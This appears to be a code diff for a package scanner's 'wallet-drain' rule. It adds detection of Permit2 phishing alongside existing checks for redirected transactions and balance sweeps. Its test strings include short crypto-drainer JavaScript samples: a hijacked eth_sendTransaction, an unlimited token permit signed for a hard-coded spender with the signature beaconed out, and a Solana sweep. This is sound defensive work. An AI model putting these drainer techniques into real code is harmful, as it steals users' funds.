@@ -8,7 +8,9 @@ crate::declare_rule! {
     /// Transactions redirected to an address fixed in the code: a wrapper around a wallet's
     /// `request` that overwrites the recipient (`params[0].to = "0x…"`) of
     /// `eth_sendTransaction`, or a transfer to a hard-coded address of an amount computed from
-    /// the victim's balance (a sweep). Wallet SDKs send where their caller says.
+    /// the victim's balance (a sweep), or an unlimited token permit (`eth_signTypedData`, amount
+    /// 2^160-1 or 2^256-1) signed for a spender written in the code (Permit2 phishing). Wallet
+    /// SDKs send where their caller says.
     id: "wallet-drain",
     category: Crypto,
     severity: Critical,
@@ -18,10 +20,13 @@ crate::declare_rule! {
     case_file: "index.js",
     flag: ["const R = '0x2222222222222222222222222222222222222222'; p.request = async (a) => { if (a.method === 'eth_sendTransaction') a.params[0].to = R; return o(a) }",
            "n.request = async a => { if (a.method === 'eth_sendTransaction') { a.params[0].to = '0x1111111111111111111111111111111111111111' } return r(a) }",
+           "const SP = '0x3333333333333333333333333333333333333333'; const msg = { details: [{ token: t, amount: '0xffffffffffffffffffffffffffffffffffffffff' }], spender: SP }; rq({ method: 'eth_signTypedData_v4', params: [owner, JSON.stringify({ primaryType: 'PermitBatch', message: msg })] }).then((s) => navigator.sendBeacon(u, s))",
            "const V = new PublicKey('9xQeWvG816bUx9EPjHmaT23yvVM2ZWbrrpZb9PusVFin'); const b = await c.getBalance(k.publicKey); SystemProgram.transfer({ fromPubkey: k.publicKey, toPubkey: V, lamports: Math.floor(b * 0.98) })"],
     pass: ["if (value.to && getBigInt(value.to) === BN_0) { value.to = '0x0000000000000000000000000000000000000000' } // eth_sendTransaction",
            "provider.request({ method: 'eth_sendTransaction', params: [{ from, to: recipient, value }] })",
-           "SystemProgram.transfer({ fromPubkey: k.publicKey, toPubkey: new PublicKey(to), lamports })"],
+           "SystemProgram.transfer({ fromPubkey: k.publicKey, toPubkey: new PublicKey(to), lamports })",
+           "export function permit(owner, spender, token) { const msg = { details: { token, amount: MaxUint160 }, spender }; return provider.request({ method: 'eth_signTypedData_v4', params: [owner, JSON.stringify({ primaryType: 'PermitSingle', message: msg })] }) }",
+           "const ROUTER = '0x4444444444444444444444444444444444444444'; const msg = { details: { token, amount: value }, spender: ROUTER }; provider.request({ method: 'eth_signTypedData_v4', params: [owner, JSON.stringify(msg)] })"],
 }
 
 fn check(pkg: &Package, out: &mut Emitter) {
@@ -37,7 +42,15 @@ fn check(pkg: &Package, out: &mut Emitter) {
             continue;
         }
         let text = all_text(f);
-        if !crate::mentions!(text, ["eth_sendtransaction", "publickey", "transfer"]) {
+        if !crate::mentions!(
+            text,
+            [
+                "eth_sendtransaction",
+                "publickey",
+                "transfer",
+                "eth_signtypeddata"
+            ]
+        ) {
             continue;
         }
         // The overwrite must sit in code that handles eth_sendTransaction (a request wrapper),
@@ -84,6 +97,17 @@ fn check(pkg: &Package, out: &mut Emitter) {
             );
             continue;
         }
+        if let Some(off) = fixed_unlimited_permit(text) {
+            let off = if off < f.text.len() { off as u32 } else { 0 };
+            out.hit_sev(
+                Severity::Critical,
+                pkg,
+                f,
+                off,
+                "asks the wallet to sign an unlimited token permit for a spender fixed in the code",
+            );
+            continue;
+        }
         if !balance.is_match(text) {
             continue;
         }
@@ -105,4 +129,34 @@ fn check(pkg: &Package, out: &mut Emitter) {
             }
         }
     }
+}
+
+/// Where the code asks the wallet to sign (`eth_signTypedData`) an unlimited token permit
+/// (`amount` 2^160-1 or 2^256-1) whose spender is an address written in the code, literally or
+/// through a constant: Permit2 phishing. Permit libraries take the spender from their caller.
+fn fixed_unlimited_permit(text: &str) -> Option<usize> {
+    if !text.contains("eth_signTypedData") {
+        return None;
+    }
+    let unlimited = crate::regex!(
+        r"\b0x[fF]{40,}\b|\bMaxUint(?:256|160)\b|\bMAX_UINT(?:256|160)\b|\b2n\s*\*\*\s*(?:256|160)n"
+    );
+    if !unlimited.is_match(text) {
+        return None;
+    }
+    let consts = crate::regex!(r#"(?:const|let|var)\s+(\w+)\s*=\s*['"`](0x[0-9a-fA-F]{40})['"`]"#);
+    let spender = crate::regex!(
+        r#"\bspender['"]?\s*:\s*(?:['"`](0x[0-9a-fA-F]{40})['"`]|([A-Za-z_$][\w$]*)\b)"#
+    );
+    let somebody = |a: &str| !a.contains(&"0".repeat(40));
+    spender.captures_iter(text).find_map(|c| {
+        let fixed = match (c.get(1), c.get(2)) {
+            (Some(a), _) => somebody(a.as_str()),
+            (None, Some(id)) => consts
+                .captures_iter(text)
+                .any(|k| &k[1] == id.as_str() && somebody(&k[2])),
+            _ => false,
+        };
+        fixed.then(|| c.get(0).map_or(0, |m| m.start()))
+    })
 }
